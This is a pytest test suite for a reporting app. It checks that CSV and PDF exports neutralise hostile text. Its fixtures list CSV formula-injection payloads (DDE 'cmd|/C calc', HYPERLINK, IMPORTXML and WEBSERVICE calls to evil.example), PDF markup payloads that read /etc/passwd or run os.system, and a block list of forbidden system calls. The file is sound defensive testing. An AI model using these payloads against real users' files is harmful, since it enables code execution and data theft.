"""Hostile texts in exported files: no spreadsheet computes them, no PDF reads them as markup, nothing is opened."""

import csv
import io
import sys
import time
from contextlib import contextmanager
from datetime import timedelta

import pytest
from django.utils import timezone
from pypdf import PdfReader

from accounts.capabilities import Role
from memberpulse.spreadsheets import defused
from reporting.answers import answer
from reporting.renderers.csv import write_csv
from reporting.renderers.pdf import write_pdf
from reporting.renderers.pdf.words import LENGTH_AT_MOST, META, paragraph, plain
from reporting.reports.sections import Column, Report, Section
from tests.factories import CategoryFactory, TeamFactory, UserFactory, make_ticket, person_with

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=", "+", "-", "@"]
COMMANDS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+49 30 1234567",
]
HIDDEN = [
    "\t",
    "\r",
    "\n",
    "\0",
    " ",
    "   ",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x0b",
    "\x1f",
    "\x7f",
    "\r\n",
    " \t\u200b",
]
FOLDED = ["＝1+1", "＋1", "－1", "＠A1", "﹦1", "﹢1", "﹣1", "﹫A1", "⁺1", "⁼1", " ＝1+1", "\u200b＠A1"]
SPREADSHEET = [
    *FORMULAS,
    *COMMANDS,
    *(before + "=1+1" for before in HIDDEN),
    *(before + "@A1" for before in HIDDEN),
    *FOLDED,
    "\tplain",
    "\rplain",
    "\nplain",
    "\0plain",
    "\t",
    "\n\n=1",
    '"=1+1',
    "'=1+1",
    "a=1+1",
    "a\n=1+1",
    'a","=1+1',
    "a\r\n=1+1,=2",
    ",=1",
    ";=1",
]
HARMLESS = [
    "Billing",
    "",
    " ",
    "a=1+1",
    "'=1+1",
    '"=1+1',
    "3-1",
    "(=1)",
    "a\n=1+1",
    "–1",
    "−1",
    "#REF!",
    "Größe",
    "日本語",
]

MARKUP = [
    "<b>", "</b>", "<b>bold", "<b><i></b></i>", "<para>", "</para>", "<br/>", "<a href='https://evil.example'>x</a>",
    "<img src='/etc/passwd'/>", "<img src='file:///etc/passwd' width='1' height='1'/>",
    "<img src='https://evil.example/x.png'/>", "<img src='data:image/png;base64,AAAA'/>",
    "<font color='[[[getattr(pow, Word(\"__globals__\"))[\"os\"].system(\"touch /tmp/x\")]]] and red'>x</font>",
    "<font name='Nowhere'>x</font>", "<font size='99999'>x</font>", "<span backColor='expr(1)'>x</span>",
    "<greek>a</greek>", "<super><super><super>", "<onDraw name='x' label='y'/>", "<seq id='x'/>", "<index item='x'/>",
    "<unichar code='0x41'/>", "<!-- x", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "&a;", "&lt;b&gt;", "&", "&#0;", "&#x202e;", "<", ">", "<<>>", "\\u003cb\\u003e", "%PDF-1.7", "endstream endobj",
    ") Tj ET (", "\\", "((((", "))))", "$x^2$", "{{ 7*7 }}", "{% load x %}", "%(secret)s", "{0.__class__}",
    "\u202egnp.exe", "\u200f\u202b", "e\u0301" * 40, "\U0001f600\U0001f468\u200d\U0001f469", "日本語テスト", "עברית",
    "\ud83d", "\x00\x01\x02", "\ufffe\uffff", "\x7f\x9f", "tab\tand\nline", "", " ",
    "a" * 1_000, "W" * 200_000, "word " * 40_000, "\n" * 5_000,
]  # fmt: skip


@pytest.fixture
def manager():
    return person_with(Role.MANAGER)


@pytest.fixture
def head(db, manager):
    return answer("agents", user=manager, params={"period": "7d"})["agents"].head


def report_with(head: dict, text: str) -> Report:
    """A report with ``text`` wherever a text can stand: title, heading, group, note, cells and total."""
    columns = (Column("name", text, "text", text), Column("value", text, "count"))
    rows = [{"name": text, "value": -5}]
    section = Section("hostile", text, columns, rows, "agents", total={"name": text, "value": -5}, note=text)
    return Report("hostile", text, head, (section,))


# --- CSV ---


def is_computed(cell: str) -> bool:
    """Whether any known spreadsheet may take the cell for a formula, or drop what stands before one."""
    bare = cell.lstrip("\t\r\n\0\x0b\x0c\x1f\x7f \u00a0\u2003\u200b\ufeff\u202e")
    return cell[:1] in tuple("\t\r\n\0") or bare[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫⁺⁻⁼")


def cells_of(report: Report, person) -> list[str]:
    file = io.BytesIO()
    write_csv(report, file, person=person)
    text = file.getvalue().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_corpus_is_large_enough():
    assert len(set(SPREADSHEET)) >= 60
    assert len(set(MARKUP)) >= 60


@pytest.mark.parametrize("text", SPREADSHEET)
def test_no_text_of_a_csv_is_a_formula_wherever_it_stands(head, manager, text):
    cells = cells_of(report_with(head, text), manager)

    assert [cell for cell in cells if is_computed(cell) and cell != "-5"] == []
    assert text in {cell.removeprefix("'") for cell in cells} | set(cells)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert defused(text) == text


def test_numbers_stay_numbers(head, manager):
    assert cells_of(report_with(head, "=1"), manager).count("-5") == 2


def test_names_of_things_are_defused_in_a_report(db, manager):
    agent = UserFactory(name='=HYPERLINK("x")')
    team = TeamFactory(name="+Plus GmbH", agents=[agent])
    make_ticket(team=team, assignee=agent, category=CategoryFactory(name="@home"))

    agents = answer("agents", user=manager, params={"team": str(team.pk)})["agents"]
    trends = answer("trends", user=manager, params={})["trends"]

    assert {'\'=HYPERLINK("x")', "'+Plus GmbH"} <= set(cells_of(agents, manager))
    assert {"'@home", "'@home (count)"} <= set(cells_of(trends, manager))


# --- PDF ---

_opened: list[str] | None = None
_FORBIDDEN = ("open", "socket.", "urllib.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "exec", "compile")


def _watch(event: str, arguments: tuple) -> None:
    if _opened is not None and event.startswith(_FORBIDDEN):
        _opened.append(f"{event} {arguments[:1]}")


# For good: an audit hook cannot be taken back.
sys.addaudithook(_watch)


@contextmanager
def nothing_is_opened():
    """No file, no address, no program, no code is touched in the block."""
    global _opened
    _opened = []
    try:
        yield
        assert _opened == []
    finally:
        _opened = None


@pytest.fixture
def warm(db, manager):
    """Fonts and lazy imports are opened once per process; the first PDF does that."""
    summary = answer("summary", user=manager, params={})["summary"]
    as_pdf(summary, manager, summary=summary)


def as_pdf(report: Report, person, **options) -> bytes:
    file = io.BytesIO()
    write_pdf(report, file, person=person, **options)
    return file.getvalue()


@pytest.mark.usefixtures("warm")
@pytest.mark.parametrize("text", MARKUP, ids=lambda text: ascii(text[:20]))
def test_markup_is_printed_and_not_obeyed(head, manager, text):
    report = report_with(head, text)
    began = time.monotonic()

    with nothing_is_opened():
        content = as_pdf(report, manager)

    assert time.monotonic() - began < 5
    pages = PdfReader(io.BytesIO(content)).pages
    assert sum(page.extract_text().count("−5") for page in pages) == 2
    assert len(pages) < 5


@pytest.mark.usefixtures("warm")
def test_hostile_names_of_things_do_not_stop_any_report(db, manager):
    agent = UserFactory(name="<b>unclosed <img src='/etc/passwd'/>")
    team = TeamFactory(name="<para>", agents=[agent])
    for place, name in enumerate(("<font color='x'>", "&nope;", "W" * 100, "]]>")):
        category = CategoryFactory(name=name)
        make_ticket(team=team, assignee=agent, category=category, at=timezone.now() - timedelta(days=place))

    for report_key in ("summary", "performance", "agents", "trends"):
        params = {"team": str(team.pk), "category": str(category.pk)} if report_key == "agents" else {}
        reports = answer(report_key, user=manager, params=params, also=("summary",))
        with nothing_is_opened():
            content = as_pdf(reports[report_key], manager, summary=reports["summary"])
        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
        assert ("<b>unclosed" in text) is (report_key == "agents")


def test_text_is_cut_with_an_ellipsis():
    assert plain("a" * 500) == "a" * 500
    assert plain("a" * 501) == "a" * (LENGTH_AT_MOST - 1) + "…"


def test_paragraph_holds_its_text_literally():
    text = "<b>x</b> &amp; <img src='/etc/passwd'/>"

    assert paragraph(text, META).getPlainText(identify=True) == text
